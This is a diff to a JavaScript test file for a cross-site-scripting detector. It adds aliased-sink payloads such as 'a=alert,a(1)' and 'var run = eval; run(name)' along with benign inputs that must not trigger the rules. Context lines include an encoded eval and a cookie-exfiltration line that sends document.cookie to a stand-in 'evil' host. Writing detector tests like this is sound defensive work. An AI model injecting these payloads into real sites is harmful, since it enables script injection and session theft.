@@ -27,6 +27,9 @@ describe('findJsScript', () => {
     ['[1].find(alert)', XSS_RULES.jsSinkAsValue],
     ['(alert)(1)', XSS_RULES.jsSinkAsValue],
     ['onerror=alert;throw 1', XSS_RULES.jsSinkAsValue],
+    ['a=alert,a(1)', XSS_RULES.jsSinkAsValue],
+    ["';x=prompt;x`1`//", XSS_RULES.jsSinkAsValue],
+    ['var run = eval; run(name)', XSS_RULES.jsSinkAsValue],
     [`eval(atob('YWxlcnQoMSk='))`, XSS_RULES.jsEvalDecoded],
     [`setTimeout('al'+'ert(1)')`, XSS_RULES.jsEvalDecoded],
     [`new Image().src='//evil/?c='+document.cookie`, XSS_RULES.cookieExfiltration],
@@ -53,6 +56,9 @@ describe('findJsScript', () => {
     'if (x) { return a < b; }',
     'https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s',
     "var c = 'x'; window.addEventListener('resize', onResize);",
+    'level=alert, retry(3)',
+    'mode=confirm; mode (default) asks first',
+    'a=alert,b(1)',
   ])('raises no critical paranoia-1 rule on %j', (input) => {
     expect(paranoiaOne(input)).toEqual([]);
   });
